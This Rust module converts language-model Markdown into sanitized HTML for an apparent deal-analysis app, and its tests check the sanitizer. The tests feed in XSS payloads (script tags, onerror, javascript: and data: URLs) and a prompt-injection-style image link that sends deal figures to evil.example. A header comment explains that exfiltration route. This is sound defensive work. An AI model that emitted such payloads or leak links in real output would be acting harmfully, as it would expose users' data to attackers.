//! Markdown to HTML for model output: raw HTML in the Markdown is shown as text; links
//! may only point at http(s) or mailto addresses and open with `rel="noopener
//! noreferrer"`; images are never loaded (a prompt injected through broker text could
//! otherwise leak deal data in an image URL): their alt text is shown instead.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};

pub fn markdown_to_safe_html(markdown: &str) -> String {
    let events = Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH).map(|event| {
        match event {
            // Escaped, never interpreted.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link { dest_url, title, .. }) => Event::InlineHtml(link_open(&dest_url, &title).into()),
            Event::End(TagEnd::Link) => Event::InlineHtml("</a>".into()),
            // An image becomes its alt text, marked as an image not shown.
            Event::Start(Tag::Image { .. }) => Event::InlineHtml("<span class=\"image-omitted\" title=\"Image not loaded\">[image: ".into()),
            Event::End(TagEnd::Image) => Event::InlineHtml("]</span>".into()),
            other => other,
        }
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    out
}

/// `<a href=… rel="noopener noreferrer">`, with the address checked and escaped. Built
/// here (not by the renderer) because the renderer cannot add `rel`; every other piece
/// of markup still comes from the renderer, and raw HTML from the model never does.
fn link_open(url: &str, title: &str) -> String {
    let mut out = String::from("<a href=\"");
    let _ = escape_href(&mut out, &safe_url(CowStr::Borrowed(url)));
    out.push('"');
    if !title.is_empty() {
        out.push_str(" title=\"");
        let _ = escape_html(&mut out, title);
        out.push('"');
    }
    out.push_str(" rel=\"noopener noreferrer\" target=\"_blank\">");
    out
}

fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim().to_ascii_lowercase();
    if lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:") {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_markdown() {
        let html = markdown_to_safe_html("## Summary\n\n**Buy** at *6.5%*.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h2>Summary</h2>"));
        assert!(html.contains("<strong>Buy</strong>"));
        assert!(html.contains("<li>one</li>"));
        assert!(html.contains("<table>"));
    }

    #[test]
    fn removes_anything_dangerous() {
        let html = markdown_to_safe_html(
            "<script>alert(1)</script>\n\nHi <img src=x onerror=alert(2)> there\n\n[click](javascript:alert(3)) \
             ![x](data:text/html;base64,AAAA) [ok](https://example.com)",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img src=x"), "{html}");
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
    }

    #[test]
    fn images_are_never_loaded_and_links_do_not_leak_the_page() {
        let html = markdown_to_safe_html(
            "![deal data](https://evil.example/leak?noi=6.1M) and [source](https://broker.example/a?b=\"c\" \"T<i>\")",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("[image: deal data]"), "{html}");
        assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
        assert!(html.contains("title=\"T&lt;i&gt;\""), "{html}");
        assert!(!html.contains("b=\"c\""), "quotes in addresses are escaped: {html}");
    }
}
